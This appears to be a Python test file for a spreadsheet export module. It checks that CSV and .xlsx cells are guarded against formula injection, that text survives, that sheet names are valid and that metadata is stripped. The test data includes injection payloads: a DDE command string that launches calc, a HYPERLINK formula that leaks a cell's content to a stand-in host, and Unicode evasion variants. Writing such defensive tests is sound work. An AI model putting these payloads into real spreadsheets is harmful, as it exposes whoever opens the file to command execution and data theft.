"""tipline/spreadsheets: whatever stands in a table, no cell of a file is a formula, and the text survives."""

import csv
import io
import re
import tempfile
import zipfile
from collections.abc import Sequence
from pathlib import Path

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tipline.spreadsheets.cells import GUARD, MOST_CHARACTERS, harmless
from tipline.spreadsheets.comma import write_csv
from tipline.spreadsheets.errors import CellTooLong, UnknownForm
from tipline.spreadsheets.service import FORMS, spreadsheet
from tipline.spreadsheets.tables import Cell, Table
from tipline.spreadsheets.xlsx import EARLIEST, write_xlsx

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\u200b\u3000＝1+1",
    "\u00ad=1+1",
    "\u061c=1+1",
    "\u180e=1+1",
    "\u2066=1+1",
    "\u2067=1+1",
    "\u2068=1+1",
    "\u2069=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://example.org/"&A1)',
    "=cmd|' /C calc'!A0",
    "\x00=1+1",
    "=",
)
ACTIVE = tuple("=+-@＝＋－＠\t\r\n")

texts = st.text(max_size=40) | st.builds("".join, st.lists(st.sampled_from([*"=+-@＝＋－＠\t\r\n \"';,#A1"])))
cells = texts | st.integers(-(10**12), 10**12)
rows = st.lists(st.lists(cells, min_size=2, max_size=2), max_size=6)


def read_xlsx(data: bytes) -> list[list[tuple[str, object]]]:
    """Each cell's type and value of the first sheet, as openpyxl finds them; formulas are not worked out."""
    sheet = openpyxl.load_workbook(io.BytesIO(data), data_only=False).worksheets[0]
    return [[(cell.data_type, cell.value) for cell in row] for row in sheet.iter_rows()]


def read_csv(data: bytes) -> list[list[str | float]]:
    """Each cell of a file; numbers are those that stand without quotation marks."""
    text = data.decode("utf-8-sig")
    return [list(row) for row in csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC)]


def unescaped(text: object) -> str:
    """What a spreadsheet program makes of a text in .xlsx."""
    return re.sub(r"_x005F_(?=x[0-9A-Fa-f]{4}_)", "_", str(text or ""))


def survivor(text: str) -> str:
    """What must be left of a text, without what no file can hold."""
    plain = text.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "\ufffd", plain)


def table(rows: Sequence[Sequence[Cell]]) -> Table:
    return Table("Title", ("One", "Two"), rows)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_like_a_formula_is_guarded(text: str) -> None:
    assert harmless(text) == GUARD + survivor(text)


@pytest.mark.parametrize("text", ["", "张三", "u3", "1-2", "a=b", "0–4", "'quoted'", "2026-03-01", "a@b"])
def test_what_is_plain_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(rows)
@example([["=1+1", "＝1+1"], ["\t=1", "#N/A"], ["_x003D_1+1", 7], ["a\x00\ud800", -1]])
def test_no_cell_of_a_workbook_is_a_formula_and_the_content_survives(given_rows: list[list[Cell]]) -> None:
    found = read_xlsx(write_xlsx([table(given_rows)]))[1:]
    assert len(found) == len(given_rows)
    for row, given_row in zip(found, given_rows, strict=True):
        for (kind, value), cell in zip(row, given_row, strict=True):
            if isinstance(cell, int):
                assert (kind, value) == ("n", cell)
                continue
            text = unescaped(value)
            assert kind in ("s", "inlineStr")
            assert not text.startswith(ACTIVE)
            assert text.removeprefix(GUARD) in (survivor(cell), survivor(cell).removeprefix(GUARD))


@given(rows)
@example([["=1+1", "＝1+1"], ["\t=1", "#N/A"], ['"', '";=1+1'], [",=1", -1]])
def test_no_cell_of_a_csv_file_is_a_formula_and_the_content_survives(given_rows: list[list[Cell]]) -> None:
    found = read_csv(write_csv([table(given_rows)]))[1:]
    assert len(found) == len(given_rows)
    for row, given_row in zip(found, given_rows, strict=True):
        for value, cell in zip(row, given_row, strict=True):
            if isinstance(cell, int):
                assert value == cell
                continue
            assert isinstance(value, str)
            assert not value.startswith(ACTIVE)
            assert value.removeprefix(GUARD) in (survivor(cell), survivor(cell).removeprefix(GUARD))


def test_headings_and_titles_are_guarded_as_well() -> None:
    evil = Table("=1+1", ("=1+1", "@A"), [("a", 1)])
    headings = read_xlsx(write_xlsx([evil]))[0]
    assert headings == [("s", "'=1+1"), ("s", "'@A")]
    assert read_csv(write_csv([evil, evil]))[:2] == [["'=1+1"], ["'=1+1", "'@A"]]


def test_a_sheet_has_a_name_that_programs_take() -> None:
    names = ["a/b:c*d?e[f]g\\h", "x" * 60, "x" * 60, "''", ""]
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx([Table(name, ("A",), []) for name in names])))
    assert len(set(book.sheetnames)) == len(names)
    assert all(0 < len(name) <= 31 and not set(name) & set("/:*?[]\\") for name in book.sheetnames)


def test_what_no_cell_can_hold_is_refused_and_not_cut() -> None:
    for write in (write_xlsx, write_csv):
        assert write([table([("x" * MOST_CHARACTERS, 1)])])
        with pytest.raises(CellTooLong):
            write([table([("x" * (MOST_CHARACTERS + 1), 1)])])
        with pytest.raises(CellTooLong):
            write([table([("😀" * (MOST_CHARACTERS // 2 + 1), 1)])])


def test_a_file_says_nothing_of_who_made_it_and_when() -> None:
    made = write_xlsx([table([("a", 1)])])
    assert made == write_xlsx([table([("a", 1)])])
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        assert {part.date_time for part in archive.infolist()} == {EARLIEST.timetuple()[:6]}
        core = archive.read("docProps/core.xml").decode()
    assert "creator" not in core
    assert "lastModifiedBy" not in core
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core)) == {"1980-01-01T00:00:00Z"}


def test_no_sheet_lies_in_a_file_of_the_system_meanwhile(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "nowhere"))
    assert read_xlsx(write_xlsx([table([("a", 1)])]))[1] == [("s", "a"), ("n", 1)]


def test_excel_reads_chinese_in_a_csv_file() -> None:
    data = write_csv([Table("", ("姓名",), [("张三",)])])
    assert data == b"\xef\xbb\xbf" + '"姓名"\r\n"张三"\r\n'.encode()


def test_a_file_has_the_ending_and_type_of_its_form() -> None:
    with pytest.raises(UnknownForm):
        spreadsheet([table([])], "figures", "xlsm")
    assert spreadsheet([table([])], "figures", "csv").name == "figures.csv"
    assert [form.mimetype.split("/")[0] for form in FORMS.values()] == ["application", "text"]
